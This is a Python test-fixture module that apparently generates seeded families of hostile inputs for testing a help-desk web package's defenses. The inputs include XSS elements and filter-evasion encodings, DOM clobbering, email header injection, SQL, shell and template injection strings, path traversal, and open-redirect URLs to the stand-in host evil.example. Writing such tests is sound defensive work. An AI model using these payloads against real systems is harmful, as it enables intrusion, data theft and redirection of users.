"""Hostile texts and URLs, generated from their building blocks.

Each family is a class of attack rather than a list of known strings, so that a defense against
some strings does not pass. The seed makes every run test the same texts.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

SEED = 20_260_701
FAMILY_SIZE = 40

CANARY = "window.compromised=1"
"""What a text runs if a page lets it."""

EVIL = "evil.example"
"""A host that no page may lead to."""

ACTIVE = (
    f"<script>{CANARY}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg onload={CANARY}>",
    f"<svg><script>{CANARY}</script></svg>",
    f"<svg><animate onbegin={CANARY} attributeName=x></svg>",
    f"<math><a xlink:href=javascript:{CANARY}>x</a></math>",
    f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe>',
    f"<iframe src=javascript:parent.{CANARY}></iframe>",
    f'<a href="javascript:{CANARY}" autofocus onfocus={CANARY}>x</a>',
    f"<input autofocus onfocus={CANARY}>",
    f"<details open ontoggle={CANARY}>x</details>",
    f"<video><source onerror={CANARY}></video>",
    f"<body onload={CANARY}>",
    f"<object data=javascript:{CANARY}></object>",
    f"<embed src=//{EVIL}/x>",
    f"<form action=//{EVIL}><button formaction=javascript:{CANARY}>x</button></form>",
    f'<meta http-equiv=refresh content="0;url=//{EVIL}">',
    f"<base href=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>*{{background:url(//{EVIL}/x)}}</style>",
    f"<x-element onanimationend={CANARY} style=animation-name:x>x</x-element>",
    f"<marquee onstart={CANARY}>x</marquee>",
    f"<template shadowrootmode=open><img src=x onerror={CANARY}></template>",
)
"""Elements that run code or load something."""

HANDLERS = ("onload", "onerror", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle")

CLOSERS = (
    "", ">", '">', "'>", '" >', "\\\">", "`>", "</p>", "</title>", "</textarea>", "</style>",
    "</script>", "</option></select>", "</template>", "</noscript>", "</blockquote>", "</pre>",
    "</code>", "</a>", "</bdi>", "</dd></dl>", "-->", "--!>", "]]>", "*/", "%}", "}}",
)  # fmt: skip
"""Ends of the contexts into which pages write a text."""

NESTED = (
    "<math>", "<mtext>", "<mglyph>", "<malignmark>", '<annotation-xml encoding="text/html">',
    "<svg>", "<foreignObject>", "<desc>", "<style>", "<title>", "<textarea>", "<noscript>",
    "<noembed>", "<noframes>", "<xmp>", "<plaintext>", "<template>", "<select>", "<option>",
    "<table>", "<caption>", "<tr>", "<form>", "<p>", "<a>", "<iframe>", "<!--", "<![CDATA[",
    "<!doctype html>", "<?xml ?>", "<frameset>",
)  # fmt: skip
"""Elements that change how a parser reads what follows; parsing twice can give two results."""

MARKUP = (
    "`", "```", "\n", "\n\n", "- ", "* ", "1. ", "7) ", "@", "@ada", "https://", "HTTP://",
    "https://a.example/", "https://a.example/?x=", "(", ")", "[x](", "mailto:", "&amp;", "&lt;",
    "&#60;", '"', "'", "<", ">", "\\", "~~~", "**", "__", "![](", "<!--", "\t", "|", "#",
)  # fmt: skip
"""Tokens of the package's own markup and of similar ones."""

INVISIBLE = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u180e",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
    "\u2028", "\u2029", "\u0085", "\ufffe", "\uffff", "\ufdd0", "\U000e0041", "\U0010ffff",
)  # fmt: skip
CONTROLS = tuple(chr(code) for code in (*range(1, 32), 127, *range(128, 160)))
NOT_STORABLE = ("\x00", "\ud800", "\udfff", "\udc00\ud800")
"""What no database stores: forms reject it."""

EXPRESSIONS = (
    "{{ 7|add:7 }}", "{{ request.user.password }}", "{% debug %}", "{% load help_desk %}",
    "{% include 'admin/base.html' %}", "{# comment #}", "{% endautoescape %}", "{{", "{%", "%}",
    "%s%s%s%n", "%(number)s", "%(user)d", "%", "{0.__class__}", "{ticket.__init__.__globals__}",
    "{}", "{", "${7*7}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "; id", "| id",
    "../../etc/passwd", "' OR '1'='1", "'; DROP TABLE auth_user; --", '" OR ""="', "\\'; --",
    "%' OR 1=1 --", "_", "\\", "1/**/UNION/**/SELECT", "*)(uid=*", "' or count(/*)=1 or '",
    "=1+1", "@SUM(1)", "\x1b[2J", "NaN", "Infinity", "-0", "1e309", "0x10", "null",
    "undefined", "True", "[]", "[object Object]",
)  # fmt: skip
"""Texts that mean something to a template, a format, a query, a shell or a spreadsheet."""

LINE_ENDS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "%0d%0a")
HEADERS = (
    f"Bcc: everyone@{EVIL}", f"To: everyone@{EVIL}", f"From: ceo@{EVIL}", "Subject: other",
    "Content-Type: text/html", "MIME-Version: 1.0", f"List-Unsubscribe: <https://{EVIL}>",
    "", ".", "--===============", "RSET", f"MAIL FROM:<x@{EVIL}>",
    f"=?utf-8?q?=0D=0ABcc=3A_everyone=40{EVIL}?=", "=?utf-8?b?DQpCY2M6IHg=?=",
)  # fmt: skip

CLOBBERING = (
    "csrfmiddlewaretoken", "help-desk-main", "help-desk-reply", "location", "document", "body",
    "action", "submit", "__proto__", "cookie", "attributes",
)  # fmt: skip


def _elements(rng: random.Random) -> str:
    return rng.choice(CLOSERS) + rng.choice(ACTIVE) + rng.choice(("", "x", "<!--", "<b"))


def _obfuscated(rng: random.Random) -> str:
    element = rng.choice(ACTIVE)
    return rng.choice(CLOSERS) + rng.choice(OBFUSCATIONS)(element, rng)


OBFUSCATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    lambda text, rng: "".join(rng.choice((c.upper(), c.lower())) for c in text),
    lambda text, rng: text.replace(" ", rng.choice(("/", "\t", "\n", "\x0c", "\r", "//", " / "))),
    lambda text, rng: text.replace("<", rng.choice(("<<", "< ", "<\x01", "<\u200b", "<%", "</ "))),
    lambda text, rng: text.rstrip(">").rstrip("/"),
    lambda text, rng: text.replace("=", rng.choice((" = ", "=`", "=\t", "&#61;", "='"))),
    lambda text, rng: text.replace("<", rng.choice(("&lt;", "&#60;", "&#x3c", "&LT;", "\uff1c"))),
    lambda text, rng: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text, rng: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text, rng: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text, rng: text.replace("script", "scr<script>ipt"),
    lambda text, rng: text.replace("javascript:", rng.choice(JAVASCRIPT)),
    lambda text, rng: text[: (middle := rng.randrange(2, len(text)))] + "\x01" + text[middle:],
    lambda text, rng: f"+ADw-{text[1:]}",
    lambda text, rng: f"{text[0]}{rng.choice(INVISIBLE)}{text[1:]}",
)
"""Ways to write an element so that a filter does not recognize it."""

JAVASCRIPT = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
    "\x01javascript:", "javascript&colon;", "&#106;avascript:", "javascript\t:", "javascript://%0a",
    "view-source:javascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "feed:",
)  # fmt: skip


def _attributes(rng: random.Random) -> str:
    quote = rng.choice(("'", '"', "`", "", '\\"', "&quot;", "&#39;"))
    space = rng.choice((" ", "\t", "\n", "/", "\x0c"))
    name = rng.choice((*HANDLERS, "style", "srcdoc", "formaction", "autofocus onfocus"))
    before = rng.choice(("", "x", f"https://a.example/{quote}", "@ada", "- x", "`x`"))
    return f"{before}{quote}{space}{name}={quote}{CANARY}"


def _mutations(rng: random.Random) -> str:
    elements = "".join(rng.sample(NESTED, rng.randint(2, 5)))
    active = rng.choice(ACTIVE)
    inner = rng.choice(CLOSERS) + active
    return f'{elements}<img title="{inner}">{active}'


def _markup(rng: random.Random) -> str:
    tokens = rng.choices(MARKUP, k=rng.randint(1, 6))
    return "".join([*tokens, rng.choice(CLOSERS), rng.choice(ACTIVE), *tokens[::-1]])


def _links(rng: random.Random) -> str:
    scheme = rng.choice((*JAVASCRIPT, "https://", "HTTPS://", "http:", "https:///", "ftp://"))
    rest = rng.choice((
        CANARY, f"{EVIL}/{CANARY}", f'a.example/"onclick="{CANARY}', f"a.example/'>{ACTIVE[2]}",
        f"a.example/`{ACTIVE[0]}`", f"ada:pw@{EVIL}", f"a.example/)]{ACTIVE[3]}", f"[::1]/{CANARY}",
        f"a.example/&#34; onclick={CANARY}", f"a.example/\u202e{EVIL}", "a.example/%22onclick=",
    ))  # fmt: skip
    return rng.choice(("", "see ", "(", "<", "- ", "[x](", '<a href="')) + scheme + rest


def _clobbering(rng: random.Random) -> str:
    name = rng.choice(CLOBBERING)
    tag = rng.choice(("form", "a", "img", "input", "iframe", "object"))
    attribute = rng.choice(("id", "name", "form"))
    return f'{rng.choice(CLOSERS)}<{tag} {attribute}="{name}"></{tag}>'


def _headers(rng: random.Random) -> str:
    return rng.choice(("", "x", "The door")) + rng.choice(LINE_ENDS) + rng.choice(HEADERS)


def _characters(rng: random.Random) -> str:
    some = rng.choices((*INVISIBLE, *CONTROLS, "\u0301", "\u0489", "a", "ß", "漢", "🧑‍🚀"), k=8)
    return "x" + "".join(some) + "x"


def _expressions(rng: random.Random) -> str:
    return rng.choice(EXPRESSIONS) + rng.choice(("", " ", rng.choice(EXPRESSIONS)))


_MAKERS: dict[str, Callable[[random.Random], str]] = {
    "elements": _elements,
    "obfuscated": _obfuscated,
    "attributes": _attributes,
    "mutations": _mutations,
    "markup": _markup,
    "links": _links,
    "clobbering": _clobbering,
    "headers": _headers,
    "characters": _characters,
    "expressions": _expressions,
}


def _family(name: str) -> tuple[str, ...]:
    rng = random.Random(f"{SEED} {name}")
    texts: dict[str, None] = {}
    while len(texts) < FAMILY_SIZE:
        # Leading and trailing white space is not stored.
        texts[_MAKERS[name](rng).strip() or "x"] = None
    return tuple(texts)


TEXTS: dict[str, tuple[str, ...]] = {name: _family(name) for name in _MAKERS}
"""Family to its texts; every database can store them."""

HARMLESS = "The door is stuck."
"""What the structure of a page with a hostile text is compared with."""


LONG_UNITS = (
    "a", "<", "<a ", "</p>", "&", "&#", '"', "`", "```\n", "@", "@a ", "- ", "1. ", "\n.", "https://",
    "(", "\u0301", "\u202e", "🧑‍🚀", f"{ACTIVE[2]}\n", "=?utf-8?q?=", "\r\n ",
)  # fmt: skip
"""What long texts repeat."""


def repeat(unit: str, length: int) -> str:
    """Return a text of at most a length, without white space at its ends."""
    return (unit * (length // len(unit))).strip() or "x"


_PREFIXES = (
    "//", "///", "////", "/////", "/\\", "\\\\", "\\/", "/\\/", "\\\\\\", "/\t/", "/\n/", "/\r/",
    "\t//", "\n//", " //", "\x00//", "\x01//", "\x1f/\\", "/\x00/", "/ /", "/\x0b/", "\u2028//",
    "\xa0//", "\ufeff//", "/\u200b/", "http:", "http:/", "http://", "http:///", "http:\\\\",
    "https://", "https:/\\", "HtTp://", "h\tttp://", " http://", "\x01http://", "http:\t//",
    "ftp://", "ws://", "file:///", "blob:http://", "view-source:http://", "//;@", "//@", "/@", "@",
    "/.//", "/..//", "/./\\", "/x/..//", "/%2f", "/%5c", "%2f%2f", "/%2f/", "/%09/", "/%00/",
    "/;//", "?//", "#//", ".//", "..\\\\", "/\uff0f", "\uff0f\uff0f", "/\u2215", "/\u29f8", "%00//",
    *(f"{scheme}//" for scheme in JAVASCRIPT), *JAVASCRIPT,
)  # fmt: skip
_HOSTS = (
    EVIL, "evil。example", "evil\uff0eexample", "evil%2eexample", "ⓔvil.example", f"{EVIL}:80",
    f"ada:pw@{EVIL}", f"testserver@{EVIL}", f"testserver:80@{EVIL}", f"testserver.{EVIL}",
    f"{EVIL}#@testserver", f"{EVIL}?@testserver", f"{EVIL}\\@testserver", f"{EVIL}\t", f"{EVIL}%00",
    f"testserver%2f@{EVIL}", f"testserver\\.{EVIL}", "[::1]", "[::ffff:1.2.3.4]", "2130706433",
    "0x7f.1", "", "[", "]", CANARY, f"%0d%0aLocation:%20//{EVIL}", f"\r\nSet-Cookie: x=1@{EVIL}",
)  # fmt: skip
_REST = ("", "/", "/help_desk/page/list/", "?next=/", "#/help_desk/", "\\", "/..", ";/", "\r\n")


def urls() -> dict[str, tuple[str, ...]]:
    """Return families of URLs that a browser may understand otherwise than a server."""
    rng = random.Random(SEED)
    found = [
        f"{prefix}{host}{rng.choice(_REST)}"
        for prefix in _PREFIXES
        for host in (EVIL, *rng.sample(_HOSTS, 7))
    ]
    return {f"{start:03}": tuple(found[start : start + 40]) for start in range(0, len(found), 40)}


URLS = urls()
